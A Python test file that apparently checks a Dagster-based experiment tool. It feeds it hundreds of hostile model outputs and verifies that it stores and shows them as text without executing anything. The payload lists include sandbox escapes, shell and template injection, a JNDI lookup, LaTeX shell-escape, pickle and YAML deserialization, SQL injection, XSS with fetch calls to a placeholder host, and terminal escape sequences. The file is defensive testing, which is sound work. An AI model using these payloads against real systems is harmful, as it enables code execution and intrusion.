"""Model output is data: hundreds of hostile texts through the whole graph, as a user runs it, under an audit.

Stored as they came, executed nowhere, shown in the report, on the page and in the terminal as text.
"""

import json
import os
import re
import socket
import subprocess
import sys
import threading
import unicodedata
from contextlib import suppress
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from gsr_dagster.commands.main import main
from gsr_dagster.experiment.keys import ArtifactKey
from gsr_dagster.experiment.loading import load_experiment
from resources.store.artifacts import ArtifactStore
from tests.journeys.security.audited import Audit
from tests.journeys.serving import CHROMIUM, PATIENCE, served
from tests.places import PROJECT

MARK = "canary"
MEBIBYTE = 1 << 20
PROBLEMS = {"a": "7", "b": "\\frac{1}{2}", "c": "(1, 2)", "d": "x^2 + 1", "e": "\\{1, 2, 3\\}"}

# Each would make PATH, or connect to HOST, were it run by what its kind is for.
CODE = [
    "__import__('os').system('touch PATH')",
    "().__class__.__base__.__subclasses__()[0].__init__.__globals__['os'].system('touch PATH')",
    "exec(\"open('PATH', 'w').write('x')\")",
    "eval(compile(\"open('PATH', 'w')\", '', 'eval'))",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('touch PATH', shell=True)",
    "(lambda: __import__('pathlib').Path('PATH').touch())()",
    "S(\"__import__('os').system('touch PATH')\")",
    "Symbol('x').__class__.__init__.__globals__['sys'].modules['os'].system('touch PATH')",
    "Integer(1).__class__.__module__ + open('PATH', 'w').name",
    "x.subs(x, open('PATH', 'w')) + sympify('open(\"PATH\", \"w\")')",
    "__import__('urllib.request').request.urlopen('http://HOST/')",
    "$(touch PATH)",
    "`touch PATH`",
    "; touch PATH #",
    "| touch PATH && curl http://HOST/",
    "{{ cycler.__init__.__globals__.os.popen('touch PATH').read() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c('touch PATH', shell=True) }}{% endfor %}",
    "{self.__init__.__globals__} {0.__class__} %(PATH)s %s",
    "${jndi:ldap://HOST/PATH}",
    "<%= system('touch PATH') %>#{`touch PATH`}",
    "\\write18{touch PATH}",
    "\\immediate\\write18{curl http://HOST/}",
    "\\input{|\"touch PATH\"}",
    "\\newwrite\\x\\immediate\\openout\\x=PATH \\immediate\\write\\x{x}",
    "\\directlua{os.execute('touch PATH')}",
    "\\def\\x{\\x\\x}\\x PATH",
    "\\mathrm{__import__('os').system('touch PATH')}",
    "\\operatorname{exec}(open('PATH','w'))",
    "\\text{\\href{javascript:fetch('http://HOST/')}{PATH}}",
    "!!python/object/apply:os.system ['touch PATH']",
    "cos\nsystem\n(S'touch PATH'\ntR.",
    "'; COPY (SELECT 1) TO 'PATH'; --",
    "=cmd|' /C touch PATH'!A0",
]  # fmt: skip
SHAPES = [
    "\\boxed{CODE}",
    "So the answer is CODE.",
    "\\boxed{\\text{CODE}}",
    "Hence it is $CODE$.",
    "CODE",
    "\\boxed{7 + CODE}",
    "CODE\n</think>\nThe final answer: CODE",
]
MARKUP = [
    "<script>fetch('http://HOST/script'); window.ran = 1</script>\\boxed{<script>alert(1)</script>}",
    '<img src=x onerror="fetch(\'http://HOST/onerror\')"><iframe src="http://HOST/frame"></iframe>',
    "[click](http://HOST/link) [script](javascript:alert(1)) <http://HOST/angle>",
    "![image](http://HOST/image.png) \\boxed{![image](http://HOST/boxed.png)}",
    "http://HOST/bare www.HOST/bare @channel <!channel> *bold* ~~~ | a | b |",
    "</td></table></script><svg onload=alert(1)>&lt;&amp;&#60;script&#62;",
]
STRANGE = [
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b31m \\boxed{\x1b[31m7}",
    "\u202eabc\u202c \u2066x\u2069 \u200f\u200e\u061c \ufeff \\boxed{\u202e7}",
    "nul \x00 in the middle \\boxed{\x007}",
    "".join(map(chr, range(32))) + "\x7f\x80\x85\u2028\u2029 \\boxed{controls}",
    "lone \ud800 and \udfff, a pair \U0001f600, \\boxed{\ud8007}",
    "not a character: \uffff \ufffe \U0010ffff, unassigned: \U000e0080, combining: " + "a" + "\u0301" * 5000,
    "[bold red]markup[/bold red] [/nothing] :smile: \\boxed{[bold]7[/bold]}",
    "windows\r\nline\rends\n\n\n \\boxed{7}  \t\n",
    "",
    " ",
    "a" * MEBIBYTE + "\\boxed{7}",
    "\\boxed{" + "7" * MEBIBYTE + "}",
    "The answer is" + "\n" * MEBIBYTE,
    "\u202e<b>&" * (MEBIBYTE // 5),
]

SYMPY = r"b['\"](?:Symbol|Integer|Float|Rational|Function) \("
PLAIN = r"b(['\"])(?:Symbol \('\w+' \)|(?:Integer|Float) \('?[\d.]+'? \)|[-+*/() ])+\1"


class Journey:
    """The texts, imported and run under an audit, with a server on loopback that nobody may call."""

    def __init__(self, folder: Path):
        self.folder, self.audit = folder, Audit(folder)
        self.canaries = folder / MARK
        for place in (self.canaries, folder / "tmp"):
            place.mkdir()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self.listener.getsockname()[1]}"
        self.callers: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()
        self.environment = {
            **{name: value for name, value in os.environ.items() if name not in ("DAGSTER_HOME", "GSR_ARTIFACTS")},
            **self.audit.environment,
            "GSR_HOME": str(folder / "home"),
            "GSR_CACHE": str(folder / "cache"),
            "TMPDIR": str(folder / "tmp"),
            "COLUMNS": "160",
        }
        self.texts = self._texts()
        self.store = ArtifactStore(root=str(folder / "home" / "artifacts" / "imported"))
        self.said: list[subprocess.CompletedProcess[str]] = []

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                caller, _ = self.listener.accept()
                self.callers.append(caller.recv(300))
                caller.close()

    def _texts(self) -> list[str]:
        shapes = [(shape, code) for code in CODE for shape in SHAPES]
        code = [shape.replace("CODE", code) for shape, code in shapes]
        written = [*MARKUP, *STRANGE, *code]
        written += [f"{number} more" for number in range(-len(written) % (2 * len(PROBLEMS)))]
        named = enumerate(written)
        return [t.replace("PATH", str(self.canaries / str(n))).replace("HOST", self.host) for n, t in named]

    def rows(self) -> list[dict]:
        """Refinements of two candidates each, every text in the place of each."""
        rows = []
        for number, start in enumerate(range(0, len(self.texts), 2)):
            name = list(PROBLEMS)[number * 2 * len(PROBLEMS) // len(self.texts)]
            pair = self.texts[start : start + 2]
            problem = f"{name} {self.texts[0]} {self.texts[2]} \x1b[31m\u202e"
            row = {"problem_id": f"../../{name}<b>", "problem": problem, "answer": PROBLEMS[name], "candidates": pair}
            rows.append({**row, "response": self.texts[-1 - start]})
        return rows

    def gsr(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        command = [str(Path(sys.executable).with_name("gsr")), *arguments]
        ran = subprocess.run(
            command, env=self.environment, cwd=self.folder, capture_output=True, text=True, timeout=500
        )
        self.said.append(ran)
        return ran

    def experiment(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        return self.gsr("-e", str(self.folder / "imported" / "experiment.yaml"), *arguments)


@pytest.fixture(scope="module")
def journey(tmp_path_factory):
    journey = Journey(tmp_path_factory.mktemp("hostile"))
    assert len(CODE) * len(SHAPES) >= 200
    lines = [json.dumps(row) + "\n" for row in journey.rows()]
    (journey.folder / "rows.jsonl").write_text("".join(lines))
    named = ["--to", "imported", "--model", "said-1b", "--parameters", "1", "-k", "2"]
    imported = journey.gsr("import", "rows.jsonl", *named)
    assert imported.returncode == 0, imported.stderr[-3000:]
    ran = journey.experiment("run")
    assert ran.returncode == 0, ran.stderr[-3000:]
    yield journey
    journey.listener.close()


def stored(text: str) -> bytes:
    """What a text is in a file: itself, but for lone surrogates, which UTF-8 cannot hold."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text).encode()


def test_every_text_is_stored_as_it_came(journey):
    partition = "recorded|said-1b"
    candidates = journey.store.read(ArtifactKey("base/candidate_pools", partition))
    assert sorted(row["text"].encode() for row in candidates) == sorted(map(stored, journey.texts))
    refinements = journey.store.read(ArtifactKey("base/self_refinements", partition))
    said = [row["response"] for row in journey.rows()]
    assert sorted(row["text"].encode() for row in refinements) == sorted(map(stored, said))
    problems = {row["problem"] for row in journey.store.read(ArtifactKey("benchmark_problems", "recorded"))}
    assert problems == {row["problem"] for row in journey.rows()}


def test_nothing_of_them_is_executed_written_or_called(journey):
    """By the audit of every process, by the files they would have made, and by the server they would have called."""
    assert journey.experiment("regrade", "--changes", "999").returncode == 0
    assert list(journey.canaries.iterdir()) == []
    assert journey.callers == []
    events = journey.audit.events()
    assert [event for event in events if any(MARK in argument for argument in event[1:])] == []
    programs = [event for event in events if event[0] in ("os.system", "os.exec", "os.posix_spawn", "pty.spawn")]
    assert programs == []
    started = {Path(event[1].strip("'")).name for event in events if event[0] == "subprocess.Popen"}
    known = {"tail", "file", "uname"}  # Dagster's log of a step, and Python's own question what machine this is
    assert {program for program in started if not program.startswith("python")} <= known
    network = [event for event in events if event[0].startswith(("socket", "urllib", "http", "ftp"))]
    assert all("AF_UNIX" in event[1] or "pymp" in event[2] for event in network), network
    written = {event[1].strip("'") for event in events if event[0] == "open" and not event[1].isdigit()}
    assert {path for path in written if not path.startswith((str(journey.folder), "/dev/"))} == set()
    # What sympy's reader, which evaluates, was given: whole numbers and the names of its own units.
    evaluated = {event[1] for event in events if event[0] == "compile" and re.match(SYMPY, event[1])}
    assert evaluated
    assert [text for text in evaluated if not re.fullmatch(PLAIN, text)] == []
    assert {event[0] for event in events} >= {"open", "subprocess.Popen"}, "the audit hears what is done"


def invisible(text: str) -> set[str]:
    return {c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


def test_a_terminal_gets_no_control_character_and_no_markup(journey, monkeypatch):
    for name in ("GSR_HOME", "GSR_CACHE", "COLUMNS"):
        monkeypatch.setenv(name, journey.environment[name])
    monkeypatch.delenv("GSR_ARTIFACTS", raising=False)

    def gsr(*arguments: str) -> Result:
        return CliRunner().invoke(main, ["-e", str(journey.folder / "imported" / "experiment.yaml"), *arguments])

    query = "select text from base_candidate_pools where text like '%{}%'"
    asked = [
        gsr("sql", query.format(chr(0x9B))),
        gsr("sql", query.format(chr(0x202E) + "abc")),
        gsr("sql", query.format("[/nothing]")),
        gsr("sql", f"select '{chr(27)}[31m' || nothing"),
        gsr("lineage", "--problem", "recorded/../../a<b>"),
        gsr("lineage", "--problem", f"{chr(27)}[31m"),
        gsr("regrade", "--grader", "exact", "--changes", "999"),
    ]
    assert [result.exit_code for result in asked] == [0, 0, 0, 1, 0, 1, 0], [result.output for result in asked]
    said = [result.output for result in asked] + [ran.stdout + ran.stderr for ran in journey.said]
    assert set().union(*map(invisible, said)) == set()
    assert "Traceback" not in "".join(said)
    assert "\\x9b31m" in said[0]
    assert "\\u202eabc" in said[1]
    assert "[bold red]markup[/bold red] [/nothing] :smile:" in said[2]
    assert "<script>fetch" in said[4]
    assert "\\x1b[31m" in said[4]


@pytest.fixture(scope="module")
def page_address(journey):
    """The Dagster page of what was made, without a daemon: it only shows."""
    home = {"DAGSTER_HOME": str(journey.folder / "home" / "dagster")}
    environment = journey.environment | home | {"GSR_EXPERIMENT": str(journey.folder / "imported" / "experiment.yaml")}
    command = [sys.executable, "-m", "dagster_webserver", "-w", str(PROJECT / "workspace.yaml"), "-p"]
    with served(lambda port: [*command, port], environment) as address:
        yield address


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: apt-get install chromium")
def test_the_page_and_the_report_show_text_and_run_nothing(journey, page_address):
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=PATIENCE)
    (report,) = (journey.folder / "home").rglob("report.html")
    experiment = load_experiment(journey.folder / "imported" / "experiment.yaml")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 1440, "height": 900})
        page.set_default_timeout(PATIENCE)
        dialogs, asked = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))

        page.goto(report.as_uri())
        assert page.locator("script, iframe, object, embed, a, link, [onerror], [onload]").count() == 0
        assert page.locator("img").count() == page.locator('img[src^="data:image/png"]').count() > 0
        assert set(asked) - {url for url in asked if url.startswith("data:")} == {report.as_uri()}

        for asset, text in (
            ("benchmark_problems", "<script>fetch('http://"),
            ("base/candidate_pools", "[click](http://"),
            ("base/graded_candidates", "![image](http://"),
            ("base/self_refinements", journey.texts[-1]),
        ):
            page.goto(f"{page_address}/assets/{experiment.name}/{asset}?view=events")
            expect(page.get_by_text(text).first).to_be_visible()
            assert page.locator(f'a[href*="{journey.host}"], img[src*="{journey.host}"], iframe').count() == 0
            assert page.locator('a[href^="javascript:"]').count() == 0
            assert page.evaluate("window.ran") is None
        browser.close()
    assert dialogs == []
    assert journey.callers == []
    assert [url for url in asked if journey.host in url] == []
